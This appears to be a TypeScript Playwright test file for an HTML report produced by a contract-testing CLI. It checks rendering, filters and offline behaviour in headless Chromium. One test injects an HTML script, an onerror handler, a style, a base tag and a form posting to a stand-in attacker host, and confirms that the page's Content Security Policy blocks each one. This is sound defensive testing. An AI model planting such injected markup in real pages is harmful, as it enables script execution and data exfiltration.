/**
 * The HTML report in a real browser: Debian's headless Chromium opens the page of a failing
 * run from a file and shows the verdict, every cause and a failed check's evidence, with
 * no console error and no request beyond the file; with JavaScript off it still reads and
 * its filters still work (CSS alone). Without the browser the tests are pending, saying
 * how to install it; never passed silently.
 */
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { expect } from "chai";
import { type Browser, chromium } from "playwright-core";
import { defaultFixtures } from "../../../src/provider/index.js";
import { runCli, serve, type TestServer, tempDir, writeFixtures } from "../../support/verify.js";

const BROWSER = "/usr/bin/chromium-headless-shell";
const INSTALL = "apt-get update && apt-get install -y chromium-headless-shell (as root)";
/** Chromium's own calls home are refused on a closed network, many at a time: off. */
const ARGS = [
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
];

describe(`reports: the HTML page in headless Chromium (needs ${BROWSER}: ${INSTALL})`, () => {
  let server: TestServer;
  let browser: Browser;
  let page: string;
  let causes: { id: string; title: string }[];
  before(async function () {
    if (!existsSync(BROWSER)) {
      process.stderr.write(`pending: no ${BROWSER}; install it with ${INSTALL}\n`);
      this.skip();
    }
    server = await serve((_req, res) => {
      res.writeHead(200, { "content-type": "text/html" });
      res.end("<html><body>hello</body></html>");
    });
    const dir = tempDir();
    page = join(dir, "report.html");
    const run = await runCli([
      "--base-url",
      server.url,
      "--fixtures",
      writeFixtures(defaultFixtures(), dir),
      "--html",
      page,
      "--json",
      join(dir, "r.json"),
    ]);
    expect(run.code, run.stderr).to.equal(1);
    causes = JSON.parse(readFileSync(join(dir, "r.json"), "utf8")).causes;
    browser = await chromium.launch({ executablePath: BROWSER, args: ARGS });
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  it("shows the verdict, every cause and a failed check's answer; no console error, no request beyond the file", async () => {
    const context = await browser.newContext();
    const tab = await context.newPage();
    const errors: string[] = [];
    const requests: string[] = [];
    tab.on("console", (m) => (m.type() === "error" ? errors.push(m.text()) : undefined));
    tab.on("pageerror", (e) => errors.push(e.message));
    tab.on("request", (r) => requests.push(r.url()));
    await tab.goto(pathToFileURL(page).href);
    expect(await tab.locator("#verdict").isVisible()).to.equal(true);
    expect((await tab.locator("#verdict").textContent()) ?? "").to.match(
      /^FAIL: the implementation breaks the contract/,
    );
    expect(causes.length).to.be.greaterThan(0);
    for (const cause of causes) {
      const title = tab.locator(`#${cause.id} .title`);
      expect(await title.isVisible()).to.equal(true);
      expect((await title.textContent()) ?? "").to.include(cause.title);
    }
    const failed = tab.locator('details.check[data-verdict="fail"]').first();
    await failed.locator("summary").click();
    const answer = failed.locator("pre.response");
    expect(await answer.isVisible()).to.equal(true);
    expect((await answer.textContent()) ?? "")
      .to.include("content-type: text/html")
      .and.include("<html><body>hello</body></html>");
    expect(errors).to.deep.equal([]);
    expect(requests.filter((u) => !u.startsWith("file:"))).to.deep.equal([]);
    await context.close();
  });

  it("a script, a handler, a style and a base slipped into a copy of the page: none takes effect; its own script runs", async () => {
    const copy = join(tempDir(), "tampered.html");
    const slipped = [
      "<script>window.slipped = 'script'</script>",
      `<img src="x" onerror="window.slipped = 'handler'">`,
      "<style>#verdict { display: none }</style>",
      `<base href="https://attacker.example/">`,
      `<form id="out" action="https://attacker.example/collect"><input name="q" value="1"></form>`,
    ].join("\n");
    writeFileSync(copy, readFileSync(page, "utf8").replace("<h1>", `${slipped}\n<h1>`));
    const context = await browser.newContext();
    const tab = await context.newPage();
    const refused: string[] = [];
    const requests: string[] = [];
    tab.on("console", (m) => (/Content Security Policy/.test(m.text()) ? refused.push(m.text()) : undefined));
    tab.on("request", (r) => requests.push(r.url()));
    await tab.goto(pathToFileURL(copy).href);
    expect(await tab.evaluate(() => (window as { slipped?: string }).slipped)).to.equal(undefined);
    expect(await tab.locator("#verdict").isVisible(), "the slipped style applied").to.equal(true);
    expect(await tab.evaluate(() => document.baseURI)).to.equal(pathToFileURL(copy).href);
    await tab.evaluate(() => (document.getElementById("out") as HTMLFormElement).submit());
    // The page's own script, named by its hash, still runs: printing opens every check.
    const opened = await tab.evaluate(() => {
      dispatchEvent(new Event("beforeprint"));
      return [...document.querySelectorAll("details")].every((d) => d.open);
    });
    expect(opened, "the page's own script ran").to.equal(true);
    expect(refused.length, "refusals the browser logged").to.be.greaterThan(0);
    expect(requests.filter((u) => !u.startsWith("file:"))).to.deep.equal([]);
    await context.close();
  });

  it("with JavaScript off: readable, and the filters work by CSS alone", async () => {
    const context = await browser.newContext({ javaScriptEnabled: false });
    const tab = await context.newPage();
    await tab.goto(pathToFileURL(page).href);
    expect(await tab.locator("#verdict").isVisible()).to.equal(true);
    const pact = tab.locator('details.check[data-group="pact"]').first();
    const probe = tab.locator('details.check[data-group="probe"]').first();
    expect(await pact.isVisible()).to.equal(true);
    await tab.locator("#group-probe").check();
    expect([await pact.isVisible(), await probe.isVisible()]).to.deep.equal([false, true]);
    await tab.locator("#verdict-fail").check();
    expect(await probe.isVisible()).to.equal(true);
    await tab.locator("#group-all").check();
    expect(await pact.isVisible()).to.equal(true);
    await context.close();
  });
});
